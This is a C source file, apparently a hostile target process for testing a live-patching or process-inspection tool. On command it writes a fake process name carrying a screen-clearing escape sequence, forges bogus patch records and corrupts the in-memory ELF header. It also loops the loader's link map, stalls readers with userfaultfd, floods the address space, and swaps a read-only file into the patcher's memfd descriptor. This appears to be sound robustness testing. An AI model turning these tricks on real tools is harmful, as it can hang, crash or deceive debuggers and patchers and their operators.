#define _GNU_SOURCE
#include <elf.h>
#include <fcntl.h>
#include <link.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
long answer(long x);
enum { PAGE = 4096, RECORDS = 5000, COPIES = 12000, PRELUDE = 272 };

/* What `/proc/PID/stat` shows in parentheses: a line that lies, and an escape sequence that clears the screen. */
static void name(void) {
    int file = open("/proc/self/comm", O_WRONLY);
    const char evil[] = "a) Z\n\033[2J\033]0;";
    if (write(file, evil, sizeof evil - 1) < 0)
        abort();
    close(file);
}

static void *executable(size_t len) {
    return mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
}

/* Beginnings of patch records (`record.rs`), with lengths that promise more than there is. */
static void forge(void) {
    for (int i = 0; i < RECORDS; i++) {
        unsigned char *page = executable(PAGE), *prelude = page + PRELUDE;
        unsigned long base = (unsigned long)page, len = i & 1 ? 1ul << 40 : PAGE;
        unsigned version = i & 2 ? 4 : 77, offset = 256, body = i & 4 ? 0xffffffff : 64u << 20;
        memcpy(prelude, "\x7fLPATCH", 8);
        memcpy(prelude + 8, &version, 4);
        memcpy(prelude + 16, &base, 8);
        memcpy(prelude + 24, &len, 8);
        memcpy(prelude + 32, &offset, 4);
        memcpy(prelude + 36, &body, 4);
        mprotect(page, PAGE, PROT_READ | PROT_EXEC);
        /* A page between keeps them mappings of their own. */
        mmap(NULL, PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    }
}

/* The loader's list leads back to its beginning. */
static void loop(void) {
    struct link_map *last = _r_debug.r_map;
    while (last->l_next)
        last = last->l_next;
    last->l_next = _r_debug.r_map;
}

static ElfW(Ehdr) *header(void) {
    return (ElfW(Ehdr) *)(getauxval(AT_PHDR) & -(unsigned long)PAGE);
}

/* The ELF header in memory: more program headers than the page holds, sections without end. */
static void lie(void) {
    ElfW(Ehdr) *elf = header();
    mprotect(elf, PAGE, PROT_READ | PROT_WRITE);
    ElfW(Phdr) *first = (void *)((char *)elf + elf->e_phoff);
    for (int i = 0; i < elf->e_phnum; i++)
        if (first[i].p_type == PT_LOAD && !(first[i].p_flags & PF_X))
            first[i].p_memsz = 1ul << 46;
    elf->e_shnum = 0xffff;
    elf->e_shoff = -1ul;
    elf->e_phnum = 1023;
    mprotect(elf, PAGE, PROT_READ);
}

/* Whoever reads the ELF header waits for ever. Behind it lies what the loader needs to bind other functions than `syscall`. */
static void withhold(void) {
    struct uffdio_api api = {.api = UFFD_API};
    struct uffdio_register page = {{(unsigned long)header(), PAGE}, UFFDIO_REGISTER_MODE_MISSING, 0};
    long fault = syscall(SYS_userfaultfd, O_CLOEXEC);
    long flags = MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED;
    syscall(SYS_mmap, header(), PAGE, PROT_READ | PROT_WRITE, flags, -1, 0);
    if (syscall(SYS_ioctl, fault, UFFDIO_API, &api) || syscall(SYS_ioctl, fault, UFFDIO_REGISTER, &page))
        __builtin_trap();
}

/* Thousands of images, each of which claims all of the address space. */
static void crowd(void) {
    int file = memfd_create("crowd", 0);
    struct { ElfW(Ehdr) elf; ElfW(Phdr) load[2]; char rest[PAGE]; } image = {.elf = *header()};
    image.elf.e_type = ET_DYN;
    image.elf.e_phoff = sizeof image.elf;
    image.elf.e_phnum = 2;
    image.load[0] = (ElfW(Phdr)){.p_type = PT_LOAD, .p_flags = PF_R | PF_X, .p_filesz = PAGE, .p_memsz = PAGE, .p_align = PAGE};
    image.load[1] = (ElfW(Phdr)){.p_type = PT_LOAD, .p_flags = PF_R, .p_vaddr = 1ul << 45, .p_memsz = 1ul << 45, .p_align = PAGE};
    if (write(file, &image, PAGE) != PAGE)
        abort();
    for (int i = 0; i < COPIES; i++) {
        mmap(NULL, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, file, 0);
        mmap(NULL, PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    }
}

static char victim[256];

/* Puts a file that it may only read where a memfd of livepatch's appears. */
static void *substitute(void *unused) {
    char link[64], path[256];
    int bait = open(victim, O_RDONLY);
    for (int i = 3;; i = i < 40 ? i + 1 : 3) {
        snprintf(link, sizeof link, "/proc/self/fd/%d", i);
        ssize_t len = readlink(link, path, sizeof path - 1);
        if (len > 0 && (path[len] = 0, strstr(path, "memfd:livepatch")))
            dup2(bait, i);
    }
    return unused;
}

static void start(void *(*body)(void *)) {
    pthread_t thread;
    if (pthread_create(&thread, NULL, body, NULL))
        abort();
}

void ask(const char *line, char *out, size_t size) {
    snprintf(out, size, "done");
    if (!strcmp(line, "name"))
        name();
    else if (!strcmp(line, "forge"))
        forge();
    else if (!strcmp(line, "loop"))
        loop();
    else if (!strcmp(line, "lie"))
        lie();
    else if (!strcmp(line, "withhold"))
        withhold();
    else if (!strcmp(line, "crowd"))
        crowd();
    else if (sscanf(line, "substitute %255s", victim) == 1)
        start(substitute);
    else
        snprintf(out, size, "%ld", answer(atol(line)));
}
